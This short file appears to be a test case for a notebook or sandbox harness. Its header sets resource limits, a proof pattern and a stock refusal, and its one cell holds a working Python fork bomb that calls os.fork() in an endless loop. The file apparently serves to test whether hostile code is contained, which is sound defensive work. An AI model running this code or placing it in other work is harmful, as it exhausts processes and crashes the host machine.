# ---
# limits: {cell_seconds: 1, processes: 40}
# about: forks without end
# proof: ATTACK RAN|the kernel ended
# problem: ".*"
# stock: "not run: would harm the machine that runs it"
# ---

# %% mean
import os

print("ATTACK RAN", flush=True)
while True:
    try:
        os.fork()
    except OSError:
        pass
